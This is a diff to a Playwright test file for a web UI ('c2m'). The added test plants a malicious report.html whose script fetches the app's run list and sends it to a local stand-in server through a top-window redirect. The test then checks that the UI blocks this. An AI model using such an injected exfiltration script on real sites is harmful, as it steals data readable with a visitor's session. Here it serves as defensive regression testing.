@@ -1,6 +1,7 @@
 import { once } from 'node:events';
-import { cp, mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
-import { get as httpGet, type IncomingMessage } from 'node:http';
+import { cp, mkdir, mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
+import { createServer, get as httpGet, type IncomingMessage } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import type { Browser, Page } from 'playwright-core';
@@ -115,6 +116,41 @@ describe('c2m ui', () => {
     expect(
       await page.evaluate('(() => { try { return document.cookie; } catch { return "none"; } })()'),
     ).toBe('none');
+  });
+
+  test('shows what the data of a record say, and nothing of a report.html that somebody has put beside them', async () => {
+    const visits: string[] = [];
+    const elsewhere = createServer((request, response) => {
+      visits.push(request.url ?? '');
+      response.end('<!doctype html><title>elsewhere</title>');
+    });
+    await once(elsewhere.listen(0, '127.0.0.1'), 'listening');
+    const { port } = elsewhere.address() as AddressInfo;
+    const folder = join(root, 'nightly', '003');
+    const own = await readFile(join(folder, 'report.html'));
+    try {
+      // With the cookie of whoever opens it, such a file would read the list, and tell it elsewhere.
+      await writeFile(
+        join(folder, 'report.html'),
+        `<!doctype html><title>Passed</title><script>
+          const away = (what) => { top.location.href = 'http://127.0.0.1:${port}/?' + encodeURIComponent(what); };
+          fetch('${home()}').then((list) => list.text()).then(away, () => away('nothing could be read'));
+        </script>`,
+      );
+      await page.goto(home());
+      await page.click('#runs a:has-text("nightly/003")');
+      await page.waitForSelector('#chart-connections canvas');
+      expect(await page.locator('.verdict').textContent()).toBe('Passed');
+      expect(new URL(page.url()).href).toContain(`${home()}report/`);
+      const reading = `fetch('${home()}').then(() => 'read', () => 'refused')`;
+      expect(await page.evaluate(reading)).toBe('refused');
+      expect(visits).toEqual([]);
+    } finally {
+      await writeFile(join(folder, 'report.html'), own);
+      said.splice(0);
+      elsewhere.closeAllConnections();
+      elsewhere.close();
+    }
   });
 
   test('draws the trend of any figure over the runs that are found or ticked', async () => {
